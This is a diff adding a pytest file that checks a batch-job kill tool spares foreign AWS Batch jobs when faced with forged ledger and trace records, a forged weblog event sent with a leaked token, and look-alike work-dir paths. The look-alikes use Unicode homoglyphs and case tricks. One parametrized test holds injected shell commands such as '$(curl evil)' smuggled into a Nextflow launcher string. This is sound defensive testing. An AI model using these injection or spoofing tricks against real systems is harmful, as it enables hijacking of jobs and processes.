@@ -1,0 +1,338 @@
+"""Kill paths under attack: worlds the kill-safety tests (tests/test_kill_safety.py) do not
+build. Each world runs on LocalBatch over HTTP with real boto3 and the simulated Nextflow:
+run A aborts with orphans on queue q and work dir s3://b/work, then something that is NOT
+A's looks like A's. Every kill path must leave the foreign jobs running and still take
+A's true orphans.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+
+from batchkit.ledger import Ledger
+from batchkit.nextflow import NextflowRun, WeblogReceiver
+from batchkit.schema import KillJob, TaskCol
+from batchkit.sim import LocalBatch
+from batchkit.tracker import Tracker
+from tests.test_kill_safety import (
+    QUEUE,
+    World,
+    a_then_b,
+    kill_with_cli,
+    tracker_plan,
+)
+
+
+@pytest.fixture
+def lb() -> Iterator[LocalBatch]:
+    with LocalBatch(manual_clock=True) as batch:
+        batch.create_environment(queue=QUEUE, vcpus=4096)
+        batch.create_environment(queue="q2", vcpus=1024)
+        yield batch
+
+
+def job_of(world: World, job_id: str) -> dict[str, Any]:
+    return next(j for j in world.lb.jobs() if j["jobId"] == job_id)
+
+
+def task_dir_of(world: World, job_id: str) -> str:
+    """The task work dir in a job's launcher (``s3://b/work/ab/<30 hex>``)."""
+    command = " ".join(job_of(world, job_id)["container"]["command"])
+    return command.split(" s3 cp --only-show-errors ")[-1].split("/.command.run")[0]
+
+
+def short_hash(task_dir: str) -> str:
+    tail = task_dir.rstrip("/").split("/")
+    return f"{tail[-2]}/{tail[-1][:6]}"
+
+
+# --- the ledger is not a proof: a pending kill is re-driven only for a job still proven ---------
+
+
+@pytest.mark.parametrize("same_dir", [False, True], ids=["b-elsewhere", "b-same-launch-dir"])
+def test_a_hand_added_pending_kill_of_a_foreign_job_is_never_sent(
+    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str], same_dir: bool
+) -> None:
+    """Someone (or an older batchkit that judged by work dir) left a pending kill of B's
+    job under run A's name in A's ledger. ``kill --yes``, ``resume_kills`` and a started
+    Tracker re-drive pending kills; none may send this one: it was never proven A's."""
+    world = a_then_b(lb, tmp_path, 3600.0, resume=False, same_dir=same_dir)
+    victim = sorted(world.foreign)[0]
+    ledger = Ledger.for_launch_dir(world.a_dir)
+    ledger.record_kill_intent(
+        "run_a", KillJob(victim, "orphan", "batchkit: orphan of run 'run_a'"), {"jobIds": [victim]}
+    )
+    killed = kill_with_cli(world, capsys)
+    assert killed == world.a_orphans and victim not in killed
+    assert world.foreign <= world.active()
+
+    tracker = Tracker(world.run_a(), world.client(), queues=[QUEUE], ledger=ledger, reload_run=False)
+    try:
+        report = tracker.resume_kills()
+        assert victim not in {k.job_id for k, _, _ in report.outcomes}
+    finally:
+        tracker.close()
+    started = Tracker(world.run_a(), world.client(), queues=[QUEUE], ledger=ledger, reload_run=False,
+                      interval=3600)
+    try:
+        started.start()  # re-drives pending kills in the background first
+        started.refresh()
+        for handle_thread in [t for t in __import__("threading").enumerate() if t.name.startswith("batchkit-kill")]:
+            handle_thread.join(timeout=30)
+    finally:
+        started.close()
+    assert world.foreign <= world.active(), "a foreign job was terminated from the ledger"
+
+
+# --- a record's timestamps are no proof of the run's lifetime ----------------------------------
+
+
+def _append_trace_row(trace: Path, row: dict[str, str]) -> None:
+    header = trace.read_text().splitlines()[0].split("\t")
+    with trace.open("a") as fh:
+        fh.write("\t".join(row.get(c, "-") for c in header) + "\n")
+
+
+def test_an_edited_trace_row_with_a_late_time_does_not_stretch_the_lifetime_onto_b(
+    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """B (another machine: its log is not in A's launch dir) runs an hour after A on the
+    same queue and work dir. A row appended to A's trace names one of B's jobs with B's
+    own hash (so its launcher agrees with the record) and a submit time two days on: the
+    row must not move A's last sign of life, so B's job stays outside A's lifetime."""
+    world = a_then_b(lb, tmp_path, 3600.0, resume=False, same_dir=False)
+    victim = sorted(world.foreign)[0]
+    trace = next(world.a_dir.glob("trace-*.txt"))
+    submits = pd.read_csv(trace, sep="\t")["submit"]
+    late = pd.to_datetime(submits[submits != "-"]).max() + pd.Timedelta(days=2)
+    _append_trace_row(trace, {"task_id": "98", "hash": short_hash(task_dir_of(world, victim)),
+                              "native_id": victim, "name": "ALIGN (forged)", "status": "ABORTED",
+                              "submit": f"{late:%Y-%m-%d %H:%M:%S}.000"})
+    assert victim in set(world.run_a().tasks[TaskCol.NATIVE_ID].dropna())
+    world.a_orphans &= world.active()
+    assert tracker_plan(world) == world.a_orphans
+    killed = kill_with_cli(world, capsys)
+    assert killed == world.a_orphans and not killed & world.foreign
+
+
+def test_a_forged_weblog_event_with_the_leaked_token_does_not_stretch_the_lifetime(
+    lb: LocalBatch, tmp_path: Path
+) -> None:
+    """The receiver's token leaked: a POST with A's runId names B's job, with B's hash and
+    work dir (the launcher agrees) and an utcTime just after B's job was created."""
+    world = a_then_b(lb, tmp_path, 3600.0, resume=False, same_dir=False)
+    victim = sorted(world.foreign)[0]
+    wd = task_dir_of(world, victim)
+    created = pd.Timestamp(job_of(world, victim)["createdAt"], unit="ms", tz="UTC")
+    receiver = WeblogReceiver(token="nf:leaked-secret")
+    auth = {"Authorization": "Basic " + base64.b64encode(b"nf:leaked-secret").decode()}
+    session = world.run_a().session_id
+    when = f"{created + pd.Timedelta(minutes=1):%Y-%m-%dT%H:%M:%SZ}"
+    receiver.ingest(json.dumps({"runName": "run_a", "runId": session, "event": "started",
+                                "utcTime": when}).encode(), auth)
+    receiver.ingest(json.dumps({
+        "runName": "run_a", "runId": session, "event": "process_submitted", "utcTime": when,
+        "trace": {"task_id": 97, "hash": short_hash(wd), "native_id": victim, "name": "ALIGN (x)",
+                  "status": "SUBMITTED", "workdir": wd, "submit": int(created.value // 10**6)},
+    }).encode(), auth)
+    run = NextflowRun.from_dir(world.a_dir, weblog=receiver)
+    assert victim in set(run.tasks[TaskCol.NATIVE_ID].dropna())
+    world.a_orphans &= world.active()
+    plan = tracker_plan(world, run)
+    assert victim not in plan and plan == world.a_orphans
+
+
+# --- the launcher: a relaunch in the same launch dir is not the launched run -------------------
+
+
+@pytest.mark.slow
+def test_an_armed_watchdog_and_kill_leftovers_ignore_a_relaunch_in_the_same_launch_dir(tmp_path: Path) -> None:
+    """The victim is killed -9 and the user relaunches in the SAME launch dir (the usual
+    `nextflow run -resume` after a crash): .nextflow.log is now the relaunch's. The
+    victim's launch must keep reading its own run: its armed watchdog and its
+    kill_leftovers take the victim's jobs and none of the live relaunch's."""
+    import time as _time
+
+    from batchkit.client import BatchClient
+    from batchkit.launcher import launch_nextflow
+
+    def recorded(launch: Any) -> set[str]:
+        tasks = launch.weblog.tasks()
+        return set(tasks[TaskCol.NATIVE_ID].dropna()) if len(tasks) else set()
+
+    def wait(predicate: Any, what: str, timeout: float = 90.0) -> None:
+        deadline = _time.monotonic() + timeout
+        while _time.monotonic() < deadline:
+            if predicate():
+                return
+            _time.sleep(0.2)
+        raise AssertionError(f"timed out waiting for {what}")
+
+    with LocalBatch(speed=20.0) as batch:
+        batch.create_environment("demo-queue", vcpus=512)
+        client = BatchClient(client=batch.client(), rate=200.0)
+        sim = ["-n-tasks", "8", "-poll-interval", "5"]
+        folder = tmp_path / "launch"
+        victim = launch_nextflow("main.nf", folder, client=client, queue="demo-queue",
+                                 endpoint_url=batch.endpoint_url, simulated=True, sim_args=sim)
+        relaunch = None
+        try:
+            wait(lambda: len(recorded(victim)) >= 2, "the victim's submissions")
+            victim.kill_process()
+            mine = recorded(victim)
+            relaunch = launch_nextflow("main.nf", folder, client=client, queue="demo-queue",
+                                       endpoint_url=batch.endpoint_url, simulated=True,
+                                       sim_args=[*sim, "-seed", "7"])
+            wait(lambda: len(recorded(relaunch)) >= 2, "the relaunch's submissions")
+            assert victim.run().name == victim.run_name  # not the relaunch's log
+            assert {k.job_id for k in victim.leftovers()} <= mine
+            watchdog = victim.watch(silent_after=3600, interval=3600)
+            watchdog.arm()
+            watchdog.check()
+            killed = {job.job_id for report in watchdog.kills for job, _, _ in report.outcomes}
+            assert killed <= mine
+            theirs = recorded(relaunch)
+            after = {j["jobId"]: j for j in batch.jobs()}
+            assert theirs and not any((after[j].get("statusReason") or "").startswith("batchkit") for j in theirs)
+            assert relaunch.returncode is None
+        finally:
+            for launch in (victim, relaunch):
+                if launch is not None:
+                    if launch.returncode is None:
+                        launch.kill_process()
+                    launch.close()
+
+
+# --- array jobs ----------------------------------------------------------------------------------
+
+
+def test_an_edited_trace_row_naming_a_foreign_array_child_kills_nothing(
+    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Another user's array job (not Nextflow: its command names no task dir) runs on A's
+    queue, submitted within A's grace after the abort. A row added to A's trace names one
+    of its children ``<id>:1``: array commands pick the task dir by index, so they name
+    no single dir — but Nextflow's names the task's among its dirs; this one names none.
+    Neither the child nor its parent (whose TerminateJob would stop every child) may be
+    in a plan."""
+    from tests.test_kill_safety import run_a
+
+    a_dir = tmp_path / "launch"
+    truth = run_a(lb, a_dir)
+    parent = str(lb.client().submit_job(
+        jobName="train", jobQueue=QUEUE, jobDefinition="nf-demo", arrayProperties={"size": 3},
+        containerOverrides={"command": ["bash", "-c", "sleep 100000"]},
+    )["jobId"])
+    lb.advance(30)
+    children = {f"{parent}:{i}" for i in range(3)}
+    trace = next(a_dir.glob("trace-*.txt"))
+    _append_trace_row(trace, {"task_id": "97", "hash": "ef/123456", "native_id": f"{parent}:1",
+                              "name": "ALIGN (forged)", "status": "ABORTED"})
+    world = World(lb, a_dir, [str(a_dir)], truth.abandoned_job_ids & set())
+    world.a_orphans = truth.abandoned_job_ids & world.active()
+    world.foreign = {parent, *children}
+    assert world.a_orphans and children <= world.active()
+    plan = tracker_plan(world)
+    assert plan == world.a_orphans
+    killed = kill_with_cli(world, capsys)
+    assert killed == world.a_orphans and not killed & world.foreign
+    assert children <= world.active()
+
+
+# --- the launcher parser and look-alike paths ---------------------------------------------------
+
+TASK = "s3://b/work/ab/cdef12" + "0" * 24
+AWS_CP = "/usr/local/bin/aws s3 cp --only-show-errors"
+SCRIPT = (f'trap "{{ ret=$?; {AWS_CP} .command.log {TASK}/.command.log||true; exit $ret; }}" EXIT; '
+          f"{AWS_CP} {TASK}/.command.run - | bash 2>&1 | tee .command.log")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        # a newline ends the trailing comment: what follows runs
+        ["bash", "-o", "pipefail", "-c", SCRIPT + " # sleep 1\ncurl evil"],
+        # the trap runs another command on exit
+        ["bash", "-o", "pipefail", "-c", SCRIPT.replace("ret=$?; ", "ret=$?; $(curl evil) ")],
+        # the same words split into other arguments run something else (`bash -c aws`)
+        ["bash", "-o", "pipefail", "-c", *SCRIPT.split(" ")],
+        ["bash -o pipefail -c", SCRIPT],
+        # two launchers, the second for another task dir
+        ["bash", "-o", "pipefail", "-c", SCRIPT + "; " + SCRIPT.replace("ab/cdef12", "ab/999999")],
+        # the launcher inside an environment variable or a quoted string
+        ["bash", "-o", "pipefail", "-c", "$NXF_LAUNCH"],
+        ["bash", "-o", "pipefail", "-c", f"bash -c '{SCRIPT}'"],
+        ["bash", "-o", "pipefail", "-c", f'echo "{SCRIPT}"'],
+    ],
+    ids=["newline-comment", "trap-subshell", "split-argv", "joined-argv", "two-launchers",
+         "env-var", "single-quoted", "double-quoted"],
+)
+def test_commands_that_are_not_exactly_nextflows_launcher_name_no_task_dir(command: list[str]) -> None:
+    from batchkit.reconcile import jobs_frame
+    from batchkit.schema import JobCol
+
+    frame = jobs_frame([{"jobId": "j", "status": "RUNNING", "container": {"command": command}}])
+    assert pd.isna(frame[JobCol.WORK_DIR].iloc[0])
+    good = jobs_frame([{"jobId": "j", "status": "RUNNING",
+                        "container": {"command": ["bash", "-o", "pipefail", "-c", SCRIPT + " # sleep 3d"]}}])
+    assert good[JobCol.WORK_DIR].iloc[0] == TASK
+
+
+def test_look_alike_task_dirs_are_never_the_runs(
+    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Jobs created right after A's abort (inside its grace) whose launcher names one of
+    A's own task hashes under a path that only looks like A's work dir: another bucket
+    differing in case (legacy S3 buckets may hold capitals), the Kelvin sign that Unicode
+    lower-cases to "k", a Cyrillic "о" in "work", a trailing dot, a percent-encoded
+    "..", another key case, and A's exact task dir run with a command appended."""
+    from tests.test_kill_safety import launcher, run_a
+
+    a_dir = tmp_path / "launch"
+    truth = run_a(lb, a_dir)
+    h = sorted(t["hash"] for t in truth.tasks)[0]  # short form "ab/cdef12", submitted by A
+    tail = h + "0" * 24
+
+    def submit(command: list[str]) -> str:
+        return str(lb.client().submit_job(jobName="ALIGN_sample_01", jobQueue=QUEUE, jobDefinition="nf-demo",
+                                          containerOverrides={"command": command})["jobId"])
+
+    def nf(wd: str, extra: str = "") -> list[str]:
+        cmd = launcher(wd)
+        return [*cmd[:-1], cmd[-1] + " # sleep 3d" + extra]
+
+    lookalikes = {
+        submit(nf(f"s3://B/work/{tail}")),
+        submit(nf(f"s3://b/w\u043erk/{tail}")),  # Cyrillic о
+        submit(nf(f"s3://b/work./{tail}")),
+        submit(nf(f"s3://b/work/%2e%2e/work/{tail}")),
+        submit(nf(f"s3://b/WORK/{tail}")),
+        submit(nf(f"s3://b/work/{tail}", "\necho stolen")),
+        submit(["/usr/bin/fusion", "bash", f"/fusion/s3/B/work/{tail}/.command.run"]),
+    }
+    lb.advance(30)
+    world = World(lb, a_dir, [str(a_dir)], set(), lookalikes)
+    world.a_orphans = truth.abandoned_job_ids & world.active()
+    assert world.a_orphans and lookalikes <= world.active()
+    # A's exact task dir, created in its grace, is proof (the control: the window is open).
+    control = submit(nf(f"s3://b/work/{tail}"))
+    lb.advance(1)
+    assert control in tracker_plan(world)
+    lb.client().terminate_job(jobId=control, reason="test: control seen")
+    assert tracker_plan(world) == world.a_orphans
+    killed = kill_with_cli(world, capsys)
+    assert killed == world.a_orphans and not killed & lookalikes
+
+
+def test_a_kelvin_sign_bucket_is_not_the_runs_bucket() -> None:
+    from batchkit.reconcile import normal_dir
+
+    assert normal_dir("s3://\u212abucket/work") != normal_dir("s3://kbucket/work")
+    assert normal_dir("s3://B/work") != normal_dir("s3://b/work")
